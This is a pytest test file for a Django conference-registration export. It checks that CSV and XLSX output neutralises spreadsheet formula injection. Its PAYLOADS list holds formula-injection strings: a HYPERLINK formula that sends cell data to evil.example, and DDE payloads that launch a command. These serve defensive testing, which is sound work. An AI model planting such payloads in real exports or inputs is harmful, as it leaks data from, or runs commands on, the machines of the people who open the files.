import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from events.exports.registrations import to_csv, to_xlsx
from events.models import StaffRole
from tests.factories import RegistrationFactory

pytestmark = pytest.mark.django_db

# What a liaison could type into a title or a note.
PAYLOADS = [
    '=1+HYPERLINK("http://evil.example/?"&A2,"Bấm vào")',
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("x")',
]


def _registrations(conference):
    """One delegate per payload (in the title and the notes), and a plain one."""
    for i, payload in enumerate(PAYLOADS):
        RegistrationFactory(
            conference=conference,
            full_name=f"Lê Văn Người{chr(65 + i)}",
            title=payload,
            notes=payload,
        )
    return RegistrationFactory(
        conference=conference, full_name="Nguyễn Thị Ánh", phone="0912345678", title="Chuyên viên"
    )


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    rows = sheet.iter_rows(min_row=2, values_only=True)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _payload_cells(rows, key="Chức vụ"):
    return sorted(row[key] for row in rows if row["Họ và tên"].startswith("Lê"))


# Registrations strip surrounding whitespace; the writers' own test covers tabs.
EXPECTED = sorted("'" + payload.strip() for payload in PAYLOADS)


def test_export_csv_dangerous_cells_get_a_leading_apostrophe(conference, make_member):
    plain = _registrations(conference)
    client, _user = make_member(conference, StaffRole.ORGANIZER)
    response = client.get(
        reverse("events:registration_export", args=[conference.slug]),
        {"format": "csv", "codes": "1"},
    )
    rows = _csv(response.content.decode())
    assert _payload_cells(rows) == EXPECTED
    assert _payload_cells(rows, "Ghi chú") == EXPECTED
    [ordinary] = [row for row in rows if row["Họ và tên"] == "Nguyễn Thị Ánh"]
    assert (ordinary["Chức vụ"], ordinary["Điện thoại"], ordinary["Mã check-in"]) == (
        "Chuyên viên",
        "0912345678",
        plain.code,
    )
    assert ordinary["Đường dẫn thẻ đại biểu"] == f"http://127.0.0.1:8000/pass/{plain.code}/"


def test_export_xlsx_every_cell_is_a_string_cell_never_a_formula(conference, make_member):
    plain = _registrations(conference)
    client, _user = make_member(conference, StaffRole.ORGANIZER)
    for codes in ("0", "1"):
        response = client.get(
            reverse("events:registration_export", args=[conference.slug]), {"codes": codes}
        )
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} == {"s"}
        _header, rows = _xlsx(response.content)
        assert [_payload_cells(rows), _payload_cells(rows, "Ghi chú")] == [EXPECTED, EXPECTED]
        [ordinary] = [row for row in rows if row["Họ và tên"] == "Nguyễn Thị Ánh"]
        assert (ordinary["Điện thoại"], ordinary.get("Mã check-in", plain.code)) == (
            "0912345678",
            plain.code,
        )


def test_export_pass_code_starting_with_a_minus_is_defused(conference, make_member):
    # Codes issued before new_pass_code refused a leading "-" are still in use.
    legacy = RegistrationFactory(conference=conference)
    legacy.code = "-" + "A1b2C3d4" * 3 + "e5F6g7h"
    legacy.save(update_fields=["code"])
    client, _user = make_member(conference, StaffRole.ORGANIZER)
    response = client.get(
        reverse("events:registration_export", args=[conference.slug]),
        {"format": "csv", "codes": "1"},
    )
    [row] = _csv(response.content.decode())
    assert row["Mã check-in"] == "'" + legacy.code
    assert row["Đường dẫn thẻ đại biểu"] == f"http://127.0.0.1:8000/pass/{legacy.code}/"


def test_export_registrations_command_csv_defuses_formulas(conference):
    from django.core.management import call_command

    _registrations(conference)
    out = io.StringIO()
    call_command("export_registrations", conference.slug, "--with-codes", stdout=out)
    assert _payload_cells(_csv(out.getvalue()), "Ghi chú") == EXPECTED


def test_export_writers_defuse_any_rows_they_are_given():
    rows = [
        ["=Tên", "Số"],
        ["\t=1+1", -5],
        ["\r=1+1", 2.5],
        ["＝SUM(A1)", 0],
        ["Trần Văn Ước", "-1+1"],
    ]
    assert list(csv.reader(io.StringIO(to_csv(rows)))) == [
        ["'=Tên", "Số"],
        ["'\t=1+1", "-5"],
        ["'\r=1+1", "2.5"],
        ["'＝SUM(A1)", "0"],
        ["Trần Văn Ước", "'-1+1"],
    ]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    assert [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()] == [
        [("'=Tên", "s"), ("Số", "s")],
        [("'\t=1+1", "s"), (-5, "n")],
        [("'\r=1+1", "s"), (2.5, "n")],
        [("'＝SUM(A1)", "s"), (0, "n")],
        [("Trần Văn Ước", "s"), ("'-1+1", "s")],
    ]


def test_import_template_download_defuses_the_conference_names_it_holds(conference, make_member):
    conference.roles.filter(code="office-leader").update(name='=HYPERLINK("x")')
    client, _user = make_member(conference, StaffRole.ORGANIZER)
    url = reverse("events:registration_template", args=[conference.slug])
    _header, rows = _xlsx(client.get(url).content)
    assert (rows[0]["Vai trò"], rows[0]["Điện thoại"]) == (
        '\'=HYPERLINK("x")',
        "0912 345 678",
    )
    rows = _csv(client.get(url, {"format": "csv"}).content.decode())
    assert rows[0]["Vai trò"] == '\'=HYPERLINK("x")'
